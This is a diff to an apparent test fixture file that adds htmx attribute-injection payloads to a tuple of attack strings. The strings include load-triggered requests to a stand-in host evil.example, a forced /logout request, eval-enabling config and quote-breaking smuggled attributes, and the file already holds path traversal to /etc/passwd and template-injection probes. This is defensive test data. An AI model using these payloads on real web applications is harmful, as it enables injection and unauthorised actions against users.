@@ -44,10 +44,25 @@ _OUTWARD = (
     "<div style='background:url(//evil.example/a.png)'>",
     "<table background=//evil.example/a.png>",
 )
+#: What htmx would act on, were it markup.
+_ACTING = (
+    '<div hx-get="//evil.example/" hx-trigger="load"></div>',
+    '<div data-hx-get="/logout" data-hx-trigger="load"></div>',
+    '<b hx-on:click="window.hit=1" hx-on::load="window.hit=1">press</b>',
+    '<i hx-get="/" hx-trigger="load[window.hit=1]"></i>',
+    "<i hx-get=/ hx-trigger=load hx-vals='js:{x: window.hit=1}'></i>",
+    '<form hx-post="/judge" hx-trigger="load"><input name=act value=note></form>',
+    '<a hx-boost="true" href="//evil.example/">More</a>',
+    '<p id="found" hx-swap-oob="true">nothing fits</p>',
+    '<template hx type="partial" hx-target="#main"><script>window.hit=1</script></template>',
+    '<meta name="htmx-config" content=\'{"allowEval":true,"selfRequestsOnly":false}\'>',
+    '" hx-get="//evil.example/" hx-trigger="load" x="',
+    "' hx-on:mouseover='window.hit=1",
+)
 _MARKS = (
     "\u202egnp.exe", "\u2066left\u2069", "\u200bhidden", "\ufeffmark", "a\u0000b", "\u2028line", "\x1b[31mred", "\u00adsoft",
     "{% raw %}{{ 7*7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "../../etc/passwd", "%2e%2e%2f", "\\\\evil.example\\share",
 )  # fmt: skip
 
 #: All of them.
-ATTACKS = tuple(holder.format(script) for holder, script in product(_HOLDERS, _SCRIPTS)) + _OUTWARD + _MARKS
+ATTACKS = tuple(holder.format(script) for holder, script in product(_HOLDERS, _SCRIPTS)) + _OUTWARD + _ACTING + _MARKS
